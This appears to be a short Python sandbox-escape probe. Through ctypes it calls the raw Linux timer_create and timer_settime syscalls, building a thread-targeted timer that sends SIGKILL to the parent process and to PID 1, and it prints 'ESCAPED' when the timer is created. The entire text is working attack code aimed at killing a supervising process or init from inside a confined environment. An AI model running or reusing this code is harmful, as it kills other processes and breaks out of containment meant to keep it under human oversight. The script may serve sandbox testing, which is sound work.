import ctypes
import os
import struct
import time

libc = ctypes.CDLL(None)
for victim in (os.getppid(), 1):
    event = ctypes.create_string_buffer(struct.pack("qiii", 0, 9, 4, victim) + bytes(44))  # SIGEV_THREAD_ID
    timer = ctypes.c_int()
    if libc.syscall(222, 1, event, ctypes.byref(timer)) == 0:
        print("ESCAPED", victim)
        libc.syscall(223, timer, 0, struct.pack("qqqq", 0, 0, 0, 1000), None)
time.sleep(0.01)
